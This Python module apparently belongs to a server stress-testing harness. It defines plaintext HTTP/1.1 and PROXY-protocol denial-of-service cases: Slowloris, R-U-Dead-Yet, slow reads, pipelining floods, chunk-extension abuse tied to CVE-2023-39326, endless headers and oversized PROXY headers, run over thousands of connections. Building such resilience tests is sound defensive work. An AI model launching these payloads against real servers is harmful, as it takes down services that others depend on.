"""Abuse of HTTP/1.1 and of connections, in clear text: that is what costs an attacker least."""

from case import HOST, RATED_S, Case, Script

LINES = f"Host: {HOST}\r\n".encode()
GET = b"GET / HTTP/1.1\r\n" + LINES
POST = b"POST /upload HTTP/1.1\r\n" + LINES


def slow_headers() -> Script:
    return Script(GET, trickle=b"X-a: b\r\n")


def slow_body() -> Script:
    return Script(POST + b"Content-Length: 100000\r\n\r\n", trickle=b"x")


def slow_read() -> Script:
    return Script(b"GET /big HTTP/1.1\r\n" + LINES + b"\r\n")


def silent() -> Script:
    return Script(b"")


def leaves() -> Script:
    return Script(b"", hangs_up="sent")


def pipelining() -> Script:
    return Script(b"", repeat=(GET + b"\r\n") * 500)


def tiny_chunks() -> Script:
    return Script(POST + b"Transfer-Encoding: chunked\r\n\r\n", repeat=b"1\r\nx\r\n" * 8_000)


def chunk_extension() -> Script:
    return Script(POST + b"Transfer-Encoding: chunked\r\n\r\n1;a=", repeat=b"e" * 65_536)


def chunk_extensions() -> Script:
    return Script(POST + b"Transfer-Encoding: chunked\r\n\r\n", repeat=(b"1;" + b"e" * 2_000 + b"\r\nx\r\n") * 30)


def chunk_trailers() -> Script:
    return Script(POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", repeat=b"X-Trailer: t\r\n" * 4_000)


def endless_header() -> Script:
    return Script(GET + b"X-Endless: ", repeat=b"h" * 65_536)


def endless_headers() -> Script:
    return Script(GET, repeat=b"a: b\r\n" * 10_000)


def many_headers() -> Script:
    return Script(b"", repeat=(GET + b"a:b\r\n" * 5_000 + b"\r\n") * 4)


def endless_target() -> Script:
    return Script(b"GET /", repeat=b"t" * 65_536)


def garbage() -> Script:
    return Script(b"\x00\xff" * 500)


def proxy_stall() -> Script:
    return Script(b"PROXY TCP4 192.0.2.1 ")


def proxy_giant() -> Script:
    return Script(b"\r\n\r\n\x00\r\nQUIT\n\x21\x11\xff\xff", repeat=b"\x04\xff\xfc" + bytes(65_000))


def _case(name, title, script, known_as="", **further) -> Case:
    return Case(name, title, "HTTP/1.1", script, "plain", known_as, **further)


# Of eight addresses: a limit per address is not to be what saves the day.
MANY = {"connections": 4_000, "addresses": 8, "pause_s": 1.0, "at_least_s": 14}
RATED = {**MANY, "at_least_s": RATED_S}

CASES = (
    _case("slow_headers", "a field a second, 4,000 connections", slow_headers, "Slowloris", **MANY),
    _case("slow_body", "an octet of body a second, 4,000 connections", slow_body, "R-U-Dead-Yet", **RATED),
    _case("slow_read", "4,000 long responses that nobody reads", slow_read, "", reads=False, receive_buffer=4096, **RATED),
    _case("silent", "4,000 connections that say nothing", silent, "", **MANY),
    _case("one_address", "as many connections as one address gets, of 6,000", silent, "", connections=6_000, pause_s=1.0),
    _case("connect_and_leave", "1,000 connections a second that say nothing and leave", leaves, "", rate=1_000),
    _case("pipelining", "requests without end, no answer is read", pipelining, "", reads=False),
    _case("pipelining_read", "requests without end, their answers are read", pipelining),
    _case("tiny_chunks", "a body in chunks of one octet", tiny_chunks),
    _case("chunk_extension", "a chunk extension without end", chunk_extension, "CVE-2023-39326"),
    _case("chunk_extensions", "chunks of one octet with 2 KB of extension", chunk_extensions, "CVE-2023-39326"),
    _case("chunk_trailers", "trailers without end", chunk_trailers),
    _case("endless_header", "a field without end", endless_header),
    _case("endless_headers", "fields without end", endless_headers),
    _case("many_headers", "5,000 fields a request", many_headers),
    _case("endless_target", "a target without end", endless_target),
    _case("garbage", "500 connections a second of what is no HTTP", garbage, "", rate=500),
    Case("proxy_stall", "half a PROXY header, 400 connections", "PROXY protocol", proxy_stall, "proxy", connections=400, pause_s=1.0, at_least_s=6),
    Case("proxy_giant", "a PROXY header of 64 KiB, and more", "PROXY protocol", proxy_giant, "proxy"),
)
